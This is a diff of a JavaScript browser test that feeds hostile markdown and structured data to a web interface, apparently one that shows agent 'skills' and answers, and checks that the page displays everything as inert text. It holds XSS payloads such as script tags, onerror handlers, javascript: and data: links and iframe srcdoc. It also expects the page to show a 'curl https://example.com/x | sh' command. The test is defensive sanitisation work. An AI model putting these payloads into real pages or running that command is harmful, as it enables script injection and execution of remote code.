@@ -1,32 +1,22 @@
 // Text that was written to do harm, wherever the API can carry it: it is shown as text, and does nothing.
 
 import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
 import { answer, api, go, pageTest, rewrite } from "./harness.mjs";
 
 const EVIL = '<img src=x onerror="window.harmed=1"><script>window.harmed=2</script>';
-const EVIL_BODY = `---
-name: ${EVIL}
-description: "${EVIL.replaceAll('"', "'")}"
----
-# ${EVIL}
-
-${EVIL}
-
-[press me](javascript:window.harmed=3) [or me](JaVaScRiPt:window.harmed=4) [data](data:text/html,<script>1</script>) <javascript:window.harmed=5>
-[tab](java\tscript:window.harmed=6) [relative](references/x.md) [good](https://example.com/?a=1) ![picture](https://example.com/x.png)
-
-<a href="javascript:window.harmed=7" onclick="window.harmed=8">raw</a> <iframe srcdoc="<script>parent.harmed=9</script>"></iframe> <style>main{display:none}</style>
-
-- ${EVIL}
-
-| a | b |
-|---|---|
-| ${EVIL} | \`${EVIL}\` |
-
-\`\`\`html
-${EVIL}
-\`\`\`
-`;
+// The second is the first as the server reads it; a test of the server says whether that is still so.
+const [EVIL_BODY, EVIL_READING] = ["hostile.md", "hostile.json"].map((name) => readFileSync(new URL(name, import.meta.url), "utf8"));
+const READING = JSON.parse(EVIL_READING);
+// What no server says: names of elements and attributes where kinds and numbers belong.
+const TWISTED = [
+  { kind: "script", text: "window.harmed=10", children: [{ kind: "text", text: EVIL }] },
+  { kind: "constructor", text: EVIL },
+  { kind: "heading", level: "1><script>window.harmed=11</script>", children: [{ kind: "text", text: EVIL }] },
+  { kind: "list", start: EVIL, children: [{ kind: "item", children: [{ kind: "html", text: EVIL }] }] },
+  { kind: "codeBlock", language: `"${EVIL}`, text: EVIL },
+  { kind: "link", to: "\u0001javascript:window.harmed=12", children: [{ kind: "image", to: "data:text/html,x" }] },
+];
 
 async function unharmed(page) {
   await page.waitForTimeout(150);
@@ -66,6 +56,7 @@ pageTest("hostile skills are shown as text and do nothing", {}, async (page) => 
     ...skill,
     description: EVIL,
     text: EVIL_BODY,
+    reading: { ...READING, blocks: [...READING.blocks, ...TWISTED] },
     path: EVIL,
     files: [{ path: EVIL, bytes: 1 }],
   }));
@@ -79,6 +70,8 @@ pageTest("hostile skills are shown as text and do nothing", {}, async (page) => 
   const text = await page.locator(".prose").textContent();
   assert.ok(text.includes(EVIL), "the body shows it as text");
   assert.ok(text.includes("javascript:window.harmed=3"), "and says where the link would have gone");
+  assert.equal(await page.locator(".prose code.command").textContent(), "curl https://example.com/x | sh");
+  assert.equal(await page.locator(".commands li").count(), 1, "a command of the text is named above it");
   const links = await page.locator(".prose a").evaluateAll((all) => all.map((link) => [link.href, link.rel]));
   assert.deepEqual(links, [
     ["https://example.com/?a=1", "noopener noreferrer"],
@@ -165,6 +158,7 @@ pageTest("hostile answers, events, snippets and summaries are shown as text and 
           why: EVIL,
           createdAt: EVIL,
           evidence: [EVIL, { a: EVIL }],
+          commands: [EVIL],
           diff: `@@ -1 +1 @@\n-${EVIL}\n+${EVIL}!`,
         },
       ],
